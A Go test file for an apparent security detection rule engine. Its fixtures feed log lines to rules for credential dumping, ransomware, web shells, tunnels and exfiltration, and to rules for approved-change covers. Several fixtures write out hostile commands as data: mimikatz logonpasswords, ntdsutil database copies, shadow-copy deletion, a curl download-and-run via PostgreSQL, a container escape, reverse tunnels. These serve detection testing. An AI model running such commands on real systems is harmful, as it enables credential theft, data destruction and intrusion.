package domain_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"moot/ledger"
	"moot/protocol/hearing/domain"
	"moot/protocol/hearing/judge"
)

// packetOf makes a packet of lines such as "10:05 | dc-2 | field | value | source". A line without
// a source is of syslog, and @ in a value stands for a quotation mark.
func packetOf(t testing.TB, lines ...string) *ledger.Packet {
	t.Helper()
	day := time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC)
	p, err := ledger.NewPacket("night", day, day.Add(24*time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	for i, line := range lines {
		part := strings.Split(line, " | ")
		at, err := time.Parse("15:04:05", part[0])
		if err != nil {
			if at, err = time.Parse("15:04", part[0]); err != nil {
				t.Fatal(err)
			}
		}
		f := ledger.PacketFact{
			ID: fmt.Sprintf("f%d", i+1), Entity: part[1], EntityType: ledger.EntityNode, Field: part[2],
			Value: ledger.Value(strings.ReplaceAll(part[3], "@", `"`)), SourceType: ledger.SourceSyslog, SourceID: "collector",
			At: day.Add(time.Duration(at.Hour())*time.Hour + time.Duration(at.Minute())*time.Minute + time.Duration(at.Second())*time.Second),
		}
		if strings.Contains(f.Entity, ".log:") {
			f.ID = f.Entity + ":" + f.Field // a field of a record
		}
		if len(part) > 5 {
			f.Raw = part[5]
		}
		if strings.Contains(f.Entity, "->") {
			f.EntityType = ledger.EntityEdge
		}
		if len(part) > 4 {
			f.SourceType = ledger.SourceType(part[4])
		}
		if err := p.Add(f); err != nil {
			t.Fatalf("%s: %v", line, err)
		}
	}
	if _, err := p.Freeze(); err != nil {
		t.Fatal(err)
	}
	return p
}

func security(t testing.TB) *domain.Rules {
	t.Helper()
	d, err := domain.BuiltIn(domain.BuiltInName)
	if err != nil {
		t.Fatal(err)
	}
	rules, err := domain.Of(&d)
	if err != nil {
		t.Fatal(err)
	}
	return rules
}

// record has the fields of a record of a log.
func record(at string, n int, values ...string) (lines []string) {
	for i := 0; i < len(values); i += 2 {
		lines = append(lines, fmt.Sprintf("%s | events.log:%d | %s | @%s@ | auth_log", at, n, values[i], values[i+1]))
	}
	return lines
}

func repeated(count int, of func(i int) []string) (all [][]string) {
	for i := range count {
		all = append(all, of(i))
	}
	return all
}

// findings has a fact for each finding, and for each relation the facts that show it.
func findings() map[string][]string {
	repeat := func(count int, line func(i int) string) []string {
		var lines []string
		for i := range count {
			lines = append(lines, line(i))
		}
		return lines
	}
	return map[string][]string{
		"privileged-group": record("10:00", 1, "kind", "4732 member added to a local group", "TargetUserName", "Administrators", "MemberSid", "S-1-5-21-7-1105"),
		"lsass-memory": record("10:00", 1, "kind", "10 sysmon process opened", "SourceImage", `C:\\Tools\\inspect.exe`,
			"TargetImage", `C:\\Windows\\System32\\lsass.exe`, "GrantedAccess", "0x1410"),
		"lsass-memory-tool": record("10:00", 1, "kind", "10 sysmon process opened", "SourceImage", `C:\\Users\\Public\\p.exe`,
			"TargetImage", `C:\\Windows\\System32\\lsass.exe`, "GrantedAccess", "0x1010"),
		"new-administrator": append(record("10:00", 1, "kind", "4720 account created", "TargetUserName", "helper", "TargetSid", "S-1-5-21-7-1105"),
			record("10:05", 2, "kind", "4732 member added to a local group", "TargetUserName", "Administrators", "MemberSid", "S-1-5-21-7-1105")...),
		"sprayed-passwords": append(slices.Concat(repeated(9, func(i int) []string {
			return record(fmt.Sprintf("10:%02d", i), i, "event", "failed logon", "account", fmt.Sprintf("user%d", i), "address", "203.0.113.9")
		})...), record("10:20", 20, "event", "accepted logon", "account", "user3", "address", "203.0.113.9")...),
		"credential-tool":       {"10:00 | ws-7 | CommandLine | @mimikatz.exe privilege::debug sekurlsa::logonpasswords@ | process_list"},
		"directory-database":    {"10:00 | dc-2 | cmdline | @ntdsutil ac i ntds ifm create full C:/x@ | process_list"},
		"directory-replication": {"10:00 | 10.4.9.18 -> dc-1 | rpc_operation | @DRSGetNCChanges@ | netflow"},
		"forged-ticket":         {"10:00 | fs-1 | kerberos_ticket | {@lifetime_hours@:87600} | auth_log"},
		"process-memory":        {"10:00 | agent-3 | ptrace_attach | {@target@:@java@} | process_list"},
		"recovery-removed":      {"10:00 | fs-1 | CommandLine | @vssadmin.exe delete shadows /all /quiet@ | process_list"},
		"ransom-note":           {"10:00 | fs-1 | file_created | @HOW_TO_DECRYPT.txt@"},
		"log-cleared":           {"10:00 | ws-7 | event | {@EventID@:1102,@user@:@tmp-x@} | auth_log"},
		"web-shell":             {"10:00 | web-1 | process_tree | @w3wp.exe > cmd.exe > whoami.exe@ | process_list"},
		"web-script-dropped":    {"10:00 | web-1 | file_create | @C:/inetpub/wwwroot/x.aspx@ | process_list"},
		"download-and-run":      {"10:00 | pg-3 | statement | @COPY t FROM PROGRAM 'curl -sk https://198.51.100.7/pg.sh'@"},
		"container-escape":      {"10:00 | node-7 | cmdline | @nsenter -t 1 -m -u -i -n -p bash@ | process_list"},
		"privileged-container":  {"10:00 | sa/web -> api | request | {@privileged@:true,@hostPID@:true} | auth_log"},
		"download-tool":         {"10:00 | ws-7 | cmdline | @certutil -urlcache -f http://x/y y@ | process_list"},
		"tunnel-tool":           {"10:00 | web-4 | cmdline | @/dev/shm/k client https://198.51.100.77:443 R:1080:socks@ | process_list"},
		"hidden-module":         {"10:00 | gw-1 | cmdline | @insmod /dev/shm/.u/snd.ko@ | process_list"},
		"miner":                 {"10:00 | gpu-1 | cmdline | @xmrig -o stratum+tcp://pool:3333@ | process_list"},
		"hidden-mail-rule":      {"10:00 | a@x | New-InboxRule | {@ForwardTo@:@b@,@MoveToFolder@:@RSS Feeds@}"},
		"attack-framework":      {"10:00 | ws-7 | CommandLine | @python3 wmiexec.py corp/a@ | process_list"},
		"controller-program":    {"10:00 | plc-4 | block_download | {@blocks@:[@OB1@]}"},
		"mass-rename":           {"10:00 | fs-1 | file_rename_count | 61208"},
		"high-entropy":          {"10:00 | fs-1 | mean_entropy_of_written_files | 7.98 | graph_computation"},
		"snapshots-deleted":     {"10:00 | fs-1 | cmd | @vssadmin delete shadows /for=L: /oldest@ | process_list"},
		"encoded-script":        {"10:00 | ws-7 | CommandLine | @powershell.exe -nop -w hidden -enc SQBFAFgA@ | process_list"},
		"writable-program":      {"10:00 | ws-7 | process_start | {@image@:@C:/PerfLogs/u.exe@,@signed@:false} | process_list"},
		"protection-stopped":    {"10:00 | ws-7 | service_state | {@service@:@WinDefend@,@to@:@stopped@}"},
		"new-service":           {"10:00 | ws-7 | event | {@EventID@:7045,@ServiceName@:@PSEXESVC@}"},
		"new-task":              {"10:00 | ws-7 | cmdline | @schtasks /create /tn x /tr y@ | process_list"},
		"autostart":             {"10:00 | ws-7 | registry | @HKCU/Software/Microsoft/Windows/CurrentVersion/Run value added@"},
		"ssh-key-added":         {"10:00 | db-2 | file_changed | @/home/deploy/.ssh/authorized_keys@"},
		"account-created":       {"10:00 | ws-7 | event | {@EventID@:4720,@name@:@helper@} | auth_log"},
		"factor-changed":        {"10:00 | h.s | mfa_method_added | {@device@:@Pixel 5@} | auth_log"},
		"kerberos-roasting":     {"10:00 | rep-5 -> dc-1 | EventID_4769_count | 43 | auth_log"},
		"secrets-listed":        {"10:00 | sa/ci -> api | list_secrets | {@items@:611} | auth_log"},
		"remote-administration": {"10:00 | srv-1 | logon | {@LogonType@:10,@user@:@adm-k@} | auth_log"},
		"reverse-tunnel":        {"10:00 | gw-1 | args | @autossh -M 0 -N -R 10022:localhost:22 r@ | process_list"},
		"scanning":              {"10:00 | ws-7 | fan_out | {@internal_peers@:140} | graph_computation"},
		"long-dns-names":        {"10:00 | ws-7 | mean_label_length | 58 | dns_log"},
		"data-to-outside":       {"10:00 | ws-7 -> 185.117.90.14 | bytes_out | 7340221440 | netflow"},
		"private-store":         {"10:00 | ws-7 -> 162.125.66.18 | sni | @content.dropboxapi.com@ | netflow"},
		"mail-forwarded":        {"10:00 | o.b | Set-Mailbox | {@ForwardingSmtpAddress@:@x@}"},
		"hosting-logon":         {"10:00 | 45.134.20.98 | asn_kind | @hosting@ | unknown"},
		"reported-rhythm":       {"10:00 | k-5 -> 198.51.100.117 | flow_rhythm | {@median_gap_s@:300} | netflow"},
		"program-changed":       {"10:00 | q/t:4 | manifest_digest | {@before@:@77@,@after@:@0c@}"},
		"guessed-password": append(repeat(12, func(i int) string {
			return fmt.Sprintf("10:%02d | 203.0.113.9 -> vpn-1 | login | {@user@:@anna@,@result@:@failed@} | auth_log", i)
		}), "10:20 | 203.0.113.9 -> vpn-1 | login | {@user@:@anna@,@result@:@success@} | auth_log"),
		"two-places": {
			"10:00 | portal | login | {@user@:@anna@,@country@:@DE@,@result@:@success@} | auth_log",
			"10:30 | portal | login | {@user@:@anna@,@country@:@BR@,@result@:@success@} | auth_log",
		},
		"beacon": repeat(14, func(i int) string {
			return fmt.Sprintf("%02d:%02d | ws-7 -> 198.51.100.9 | bytes_out | 1140 | netflow", 10+i/6, i%6*10)
		}),
		"far-volume": {
			"10:00 | ws-7 -> 198.51.100.9 | bytes_out | 9000000000 | netflow", "10:01 | ws-8 -> 198.51.100.10 | bytes_out | 40000 | netflow",
		},
		"first-use": append(repeat(4, func(i int) string {
			return fmt.Sprintf("1%d:00 | srv-1 | sshd | @Accepted publickey for deploy from 10.0.0.4@ | auth_log", i)
		}), "15:00 | db-9 | sshd | @Accepted publickey for deploy from 10.0.0.4@ | auth_log"),
	}
}

// covers has for each cover an act, the fact that explains it, and one that is not tied to it or
// is out of its window.
func covers() map[string][3]string {
	admin := "10:00 | srv-1 | logon | {@LogonType@:10,@user@:@adm-k@} | auth_log"
	return map[string][3]string{
		"approved-change": {
			"10:00 | dc-2 | cmdline | @ntdsutil ifm create full C:/x@ | process_list",
			"09:00 | dc-2 | change_record | {@what@:@install from media on dc-2@,@from@:@2026-03-02T09:00Z@,@to@:@2026-03-02T11:00Z@} | manual",
			"09:00 | dc-2 | change_record | {@what@:@install from media on dc-2@,@from@:@2026-03-02T12:00Z@,@to@:@2026-03-02T13:00Z@} | manual",
		},
		"approved-account-change": {
			"10:00 | h.s | mfa_method_added | {@user@:@h.s@} | auth_log",
			"09:00 | help desk | request | {@for@:@h.s@,@text@:@new phone@} | manual", "09:00 | help desk | request | {@for@:@b.o@,@text@:@new phone@} | manual",
		},
		"maintenance-window": {
			"10:00 | srv-1 | logon | {@LogonType@:10} | auth_log",
			"08:00 | srv-1 | maintenance_window | @remote access 09:00-11:00@ | manual", "08:00 | srv-1 | maintenance_window | @remote access 20:00-21:00@ | manual",
		},
		"approved-test": {
			"10:00 | rt-1 -> dc-1 | rpc_operation | @DRSGetNCChanges@ | netflow",
			"08:00 | SEC-26 | ticket | {@kind@:@red team@,@sources@:[@rt-1@]} | manual", "08:00 | SEC-26 | ticket | {@kind@:@red team@,@sources@:[@rt-9@]} | manual",
		},
		"known-administrator": {
			admin, "09:00 | adm-k | group_membership | [@Tier0-Operators@] | manual", "09:00 | adm-x | group_membership | [@Tier0-Operators@] | manual",
		},
		"scheduled-job": {
			"02:00 | fs-1 | cmdline | {@args@:@schtasks /create /tn nightly@,@user@:@svc-jobs@} | process_list",
			"01:00 | svc-jobs | description | @scheduled nightly task@ | manual", "01:00 | svc-other | description | @scheduled nightly task@ | manual",
		},
		"software-update": {
			"06:15 | gpu-6 | unit_log | @Stopped Security Auditing Service@",
			"06:14 | gpu-6 | dpkg.log | @upgrade auditd 3.0 3.1@", "06:14 | gpu-7 | dpkg.log | @upgrade auditd 3.0 3.1@",
		},
		"approved-access": {
			"10:00 | k.b | mfa_method_added | {@user@:@k.b@} | auth_log",
			"09:00 | k.b | travel_booking | {@to@:@Santiago@} | manual", "09:00 | x.y | travel_booking | {@to@:@Santiago@} | manual",
		},
		"backup": {
			"02:00 | fs-1 | cmd | {@args@:@vssadmin delete shadows /oldest@,@user@:@svc-veeam@} | process_list",
			"01:00 | fs-1 | backup_job | {@account@:@svc-veeam@,@state@:@success@}", "01:00 | fs-1 | backup_job | {@account@:@svc-other@,@state@:@success@}",
		},
		"known-destination": {
			"10:00 | ws-7 -> 198.51.100.71 | bytes_out | 7340221440 | netflow",
			"09:00 | 198.51.100.71 | allow_list_entry | {@purpose@:@vendor support uploads@} | manual",
			"09:00 | 198.51.100.99 | allow_list_entry | {@purpose@:@vendor support uploads@} | manual",
		},
	}
}

// Every finding, cover and relation of the security domain does what it is named for.
func TestEveryRule(t *testing.T) {
	rules := security(t)
	found, explained := findings(), covers()
	for _, id := range rules.IDs() {
		if lines, is := found[id]; is {
			c := rules.Find(packetOf(t, lines...))
			at := slices.IndexFunc(c.Findings, func(f domain.Finding) bool { return f.Rule == id })
			if at < 0 || !strings.Contains(c.Findings[at].Quote, "rule "+id) {
				t.Errorf("%s is not found: %+v", id, c.Findings)
			}
			continue
		}
		lines, is := explained[id]
		if !is {
			t.Errorf("the rule %s has no case", id)
		}
		explains := func(cover string) bool {
			return slices.ContainsFunc(rules.Find(packetOf(t, lines[0], cover)).Findings, func(f domain.Finding) bool {
				return slices.ContainsFunc(f.Covers, func(c domain.Cover) bool { return c.Rule == id && c.Fact == "f2" })
			})
		}
		if !explains(lines[1]) {
			t.Errorf("%s does not explain: %s", id, lines[0])
		}
		if explains(lines[2]) {
			t.Errorf("%s explains, and is not tied to it: %s", id, lines[2])
		}
	}
}

// What decides between the strengths: the confidences of both sides, and the claims that name
// rules and quote facts.
func TestConfidences(t *testing.T) {
	rules := security(t)
	act, change := covers()["approved-change"][0], covers()["approved-change"][1]
	remote, ordinary := findings()["remote-administration"][0], "09:00 | ups-2 | battery_charge | 100"
	for name, c := range map[string]struct {
		lines              []string
		architect, skeptic float64
		says               string
	}{
		"nothing":              {[]string{ordinary}, 0.3, 0.5, "no finding (rule no-finding): none of the "},
		"conclusive":           {[]string{ordinary, act}, 0.9, 0.1, "Copy of the directory database (rule directory-database, T1003.003): f2 dc-2 at 2026-03-02 10:00: cmdline"},
		"conclusive, covered":  {[]string{act, change}, 0.1, 0.9, "Approved change or request (rule approved-change): f2 dc-2"},
		"suspicious":           {[]string{remote, ordinary}, 0.55, 0.5, "Interactive remote session (rule remote-administration, T1021): f1"},
		"blocked":              {[]string{strings.Replace(act, "ntdsutil", "blocked: ntdsutil", 1)}, 0.55, 0.5, "only suspicious on its own"},
		"denied by words":      {[]string{strings.Replace(act, "ntdsutil", "there was no ntdsutil", 1)}, 0.3, 0.5, "no-finding"},
		"said by people":       {[]string{strings.Replace(act, "process_list", "manual", 1)}, 0.3, 0.5, "no-finding"},
		"part of another word": {[]string{"10:00 | ws-7 | title | @mimikatzenberger opens a bakery@"}, 0.3, 0.5, "no-finding"},
		"a value of nothing":   {[]string{"10:00 | ws-7 | ransom_note | false"}, 0.3, 0.5, "no-finding"},
		"a domain controller replicates": {[]string{
			"10:00 | dc-2 -> dc-1 | event_4662 | {@subject@:@CORP/DC-2$@,@properties@:@DS-Replication-Get-Changes-All@} | auth_log",
		}, 0.3, 0.5, "no-finding"},
		"many ordinary facts": {slices.Repeat([]string{ordinary}, 200), 0.3, 0.5, "200 facts"},
		"an explanation tied to another host": {
			[]string{act, strings.ReplaceAll(change, "dc-2", "dc-3")},
			0.9, 0.1, "not tied to any finding: Approved change or request (rule approved-change): f2 dc-3",
		},
		"an authorization at that time, tied to nothing": {
			[]string{act, "09:00 | chg-1 | change_window | @Active: 2026-03-02 09:00 to 12:00, red team exercise@ | auth_log"},
			0.55, 0.5, "since f2 states an authorization at its time",
		},
		"an authorization of another time": {
			[]string{act, "09:00 | chg-1 | change_window | @Active: 2026-03-02 19:00 to 21:00, red team exercise@ | auth_log"},
			0.9, 0.1, "not tied to any finding: an authorization: f2 chg-1",
		},
		"an authorization that was refused": {
			[]string{act, "09:00 | chg-1 | change_window | @Rejected: 2026-03-02 09:00 to 12:00, red team exercise@ | auth_log"},
			0.9, 0.1, "ties any of the 2 facts to it as an explanation\n",
		},
		"a denied ticket": {[]string{
			act, strings.Replace(change, "{", "{@id@:@CHG-42@,", 1), "11:00 | p.vogt | statement | @I did not approve CHG-42@ | manual",
		}, 0.9, 0.1, "no rule of the domain security ties any of the 3 facts to it as an explanation"},
	} {
		found := rules.Find(packetOf(t, c.lines...))
		a, s := found.Confidence(judge.Architect), found.Confidence(judge.Skeptic)
		if a != c.architect || s != c.skeptic {
			t.Errorf("%s: architect %v, skeptic %v: %+v", name, a, s, found.Findings)
		}
		said := ""
		for _, claim := range append(found.Claims(judge.Architect), found.Claims(judge.Skeptic)...) {
			said += claim.Text + "\n"
			if len(claim.Facts) == 0 || !strings.Contains(claim.Text, "rule ") {
				t.Errorf("%s: a claim names no rule or no fact: %+v", name, claim)
			}
		}
		if !strings.Contains(said, c.says) {
			t.Errorf("%s: nobody says %q:\n%s", name, c.says, said)
		}
	}
}

// Rules on both sides dismiss nothing that no rule names, under no judge.
func TestNotKnowingIsInconclusive(t *testing.T) {
	rules := security(t)
	unnamed := 0
	for name, lines := range ordinary() {
		c := rules.Find(packetOf(t, lines...))
		for _, version := range judge.Versions() {
			a := judge.Side{Confidence: c.Confidence(judge.Architect)}
			v, err := judge.Judge(version, a, judge.Side{Confidence: c.Confidence(judge.Skeptic)})
			if err != nil {
				t.Fatal(err)
			}
			if len(c.Findings) == 0 && v.Outcome != judge.Inconclusive {
				t.Errorf("%s is %s by %s, and no rule names a fact", name, v.Outcome, version)
			}
		}
		if len(c.Findings) == 0 {
			unnamed++
		}
	}
	if unnamed == 0 {
		t.Error("each packet has a finding")
	}
}

// A side that checks what a model cites knows only what the rules say about these facts.
func TestCheck(t *testing.T) {
	rules := security(t)
	admin := covers()["known-administrator"]
	tool := findings()["credential-tool"][0]
	ordinary := "10:00 | ups-2 | battery_charge | 100"
	for name, c := range map[string]struct {
		lines              []string
		claims             [][]string
		architect, skeptic float64
	}{
		"a cover of the cited finding":   {[]string{admin[0], admin[1]}, [][]string{{"f1"}}, 0.1, 0.9},
		"a cover of another finding":     {[]string{admin[0], admin[1], ordinary}, [][]string{{"f3"}}, 0.1, 0.5},
		"one claim of two is covered":    {[]string{admin[0], admin[1], ordinary}, [][]string{{"f1"}, {"f3"}}, 0.1, 0.5},
		"no claim":                       {[]string{admin[0], admin[1]}, nil, 0.1, 0.5},
		"no rule names a fact":           {[]string{ordinary}, [][]string{{"f1"}}, 0.5, 0.5},
		"a conclusive finding is left":   {[]string{tool, ordinary}, [][]string{{"f2"}}, 0.9, 0.1},
		"the cited finding has no cover": {[]string{admin[0], admin[2]}, [][]string{{"f1"}}, 0.55, 0.5},
		"all cited findings are covered": {[]string{admin[0], admin[1], admin[0]}, [][]string{{"f1", "f3"}}, 0.1, 0.9},
	} {
		found := rules.Find(packetOf(t, c.lines...))
		a, s := found.Check(judge.Architect, c.claims), found.Check(judge.Skeptic, c.claims)
		if a != c.architect || s != c.skeptic {
			t.Errorf("%s: architect %v, skeptic %v", name, a, s)
		}
	}
}
